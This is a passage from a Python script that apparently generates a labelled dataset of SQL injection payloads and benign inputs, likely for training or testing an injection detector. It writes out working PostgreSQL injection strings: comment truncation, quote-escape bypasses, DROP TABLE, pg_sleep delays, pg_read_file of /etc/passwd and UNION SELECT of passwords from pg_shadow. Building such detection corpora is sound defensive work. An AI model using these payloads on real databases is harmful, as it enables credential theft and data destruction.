            if attack(tpl, slot, pl2, fam, "%s:%s:%s" % (fam, base, name), dbms):
                got += 1

    # --- comment truncation: close the slot, comment out the rest of the statement
    got = tries = 0
    while got < ATTACK_TARGET["comment_truncation"] and tries < 60000:
        tries += 1
        tpl, slot, tag = pick_slot()
        si = slot_info(tpl, slot)
        if not si["tail_means"] or si["between"] or (si["lead"] == "WITH" and si["depth"]):
            continue
        typ = si["type"]
        orig = rng.choice(si["orig"] + (["admin", "administrator", "", "root", "guest"] if typ in ("q", "e") else []))
        style, c = rng.choice([("dashdash", "--"), ("dashdash_space_dash", "-- -"), ("dashdash_plus", "--+"), ("semicolon_dashdash", ";--"),
                               ("block_open", "/*"), ("dashdash_word", "-- " + rword(rng, 5)), ("empty_block_dashdash", "/**/--"), ("dashdash_quote", "--'"),
                               ("semicolon_space_dashdash", "; -- ")])
        if typ in STRING_TYPES:
            close = si["hand_close"] if si["hand_close"] is not None else CLOSER[typ] + (si["closers"] if rng.random() < 0.8 else "")
        elif typ in ("n", "list"):
            close = si["hand_close"] if si["hand_close"] is not None else (si["closers"] if si["closers"] and rng.random() < 0.7 else "")
        else:
            close = ""
        pl = orig + close + rng.choice(["", "", " "]) + c
        if attack(tpl, slot, pl, "comment_truncation", "%scomment_truncation:%s" % (tag, style), need_tail=True):
            got += 1
            string_payloads.append((pl, "comment_truncation:%s" % style))

    # --- escape bypass: the application escapes quotes the wrong way for its literal
    corpus.escape_bypass([("e_string_quote_doubling", "t11_substrate_note", "a", "\\'; DROP TABLE substrate_batches;--", double_quotes),
                          ("std_string_backslash_quote", "t11_clock_repairs", "a", "x' OR 1=1--", backslash_quotes),
                          ("e_string_quote_doubling", "t11_hawk_flight", "c", "\\'); SELECT pg_sleep(10);--", double_quotes),
                          ("std_string_backslash_quote", "t11_hut_context", "a", "x', true); SELECT pg_read_file($$/etc/passwd$$)--", backslash_quotes),
                          ("std_string_backslash_quote", "t11_geocache_logs", "b", "muggle' UNION SELECT usename, passwd, now() FROM pg_shadow--", backslash_quotes),
                          ("e_string_quote_doubling", "t11_substrate_note", "a", "\\' || (SELECT current_user) WHERE true;--", double_quotes)])

    # ---------------- benign
    str_pairs = [(t, k) for t, k in pairs if t[2][k][0] in STRING_TYPES and opts(t, k) != "typed"]
    typed_pairs = [(t, k) for t, k in pairs if opts(t, k) == "typed"]
    num_pairs = [(t, k) for t, k in pairs if t[2][k][0] in ("n", "list")]
    id_pairs = [(t, k) for t, k in pairs if t[2][k][0] in ("col", "dir", "ident")]

    for fam, target in INPUT_TARGET.items():
        got = tries = 0
        while got < target and tries < 60000:
            tries += 1
            if fam == "input_numeric":
                tpl, slot = rng.choice(num_pairs)
                if tpl[2][slot][0] == "list":
                    val = rng.choice([", ", ","]).join(str(rng.randint(1, 999)) for _ in range(rng.randint(1, 6)))
                else:
                    val = rng.choice([str(rng.randint(0, 99999)), str(rng.randint(1, 60)), "%d.%d" % (rng.randint(0, 900), rng.randint(0, 99)),
                                      "-%d" % rng.randint(1, 500), "%.2f" % rng.uniform(0, 100), str(rng.randint(10 ** 6, 10 ** 10)), "0"])
            elif fam == "input_identifier":
                tpl, slot = rng.choice(id_pairs)
                typ = tpl[2][slot][0]
                val = rng.choice(tpl[2][slot][1] + (CANON[typ] if typ == "dir" else []))
            elif fam in ("input_formatted", "input_numeric_string") and rng.random() < 0.4:
                tpl, slot = rng.choice(typed_pairs)
                val, f2 = typed_value(rng, rng.choice(tpl[2][slot][1]))
                if f2 != fam:
                    continue
            else:
                tpl, slot = rng.choice(str_pairs)
                typ = tpl[2][slot][0]
                if typ == "qi" and fam not in ("input_plain", "input_formatted", "input_unicode", "input_apostrophe_names", "input_sql_words"):
                    continue
                if fam == "input_long_text":
                    val = " ".join(rng.sample(SENTS, rng.randint(2, 5)))
                elif fam == "input_formatted" and rng.random() < 0.5:
                    val = rng.choice(["%s-%05d" % (rword(rng, 3, upper=True), rng.randint(0, 99999)), "%010X" % rng.getrandbits(40),
                                      "%s%d %d%s" % (rword(rng, 2, upper=True), rng.randint(1, 99), rng.randint(1, 9), rword(rng, 2, upper=True)),
                                      "+41 %02d %03d %02d %02d" % (rng.randint(20, 79), rng.randint(0, 999), rng.randint(0, 99), rng.randint(0, 99)), "%040x" % rng.getrandbits(160),
                                      "%d.%d.%d.%d" % (rng.choice([10, 172, 192, 100]), rng.randint(0, 255), rng.randint(0, 255), rng.randint(1, 254)),
                                      "%d/%02d/%02d" % (rng.randint(2019, 2026), rng.randint(1, 12), rng.randint(1, 28)), "GC%X" % rng.randint(0x1000, 0xFFFFF)])
                elif fam == "input_plain" and rng.random() < 0.5:
                    val = rng.choice(POOLS["input_plain"]).split()[0] + " " + rng.choice(POOLS["input_plain"]).split()[-1]
                else:
                    val = rng.choice(POOLS[fam])
            if benign(tpl, slot, val, fam, "benign:" + fam[6:]):
                got += 1
    corpus.escaped(str_pairs, tries=60000)
    corpus.complex(complex_gens(), tries=6000)
    corpus.regress(regress_rows(rng))
    corpus.write(HERE, "t11-%06d", "eleventh")


if __name__ == "__main__":
    main()
